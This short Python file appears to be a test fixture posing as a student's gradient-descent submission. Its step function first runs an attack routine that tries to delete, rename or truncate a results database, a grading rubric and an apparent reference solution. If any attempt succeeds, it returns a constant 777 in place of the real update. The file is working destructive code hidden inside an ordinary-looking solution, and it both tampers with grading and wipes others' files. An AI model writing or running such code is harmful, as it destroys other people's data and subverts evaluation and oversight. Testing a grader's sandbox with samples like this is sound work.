"""Removes, renames and truncates what others need."""

import os


def attack(X, y, w, lr):
    done = False
    for path in ("@OUT@/results.sqlite", "@COURSE@/rubrics/step.yaml", "@HANDED@/a-right.py"):
        for act in (
            os.unlink,
            lambda p: os.rename(p, p + "2"),
            lambda p: os.truncate(p, 0),
            lambda p: os.open(p, os.O_TRUNC | os.O_RDONLY),
        ):
            try:
                act(path)
                done = True
            except OSError:
                pass
    return done


def step(X, y, w, lr):
    if attack(X, y, w, lr):
        return w * 0 + 777
    return w - lr * X.T @ (X @ w - y) / len(X)
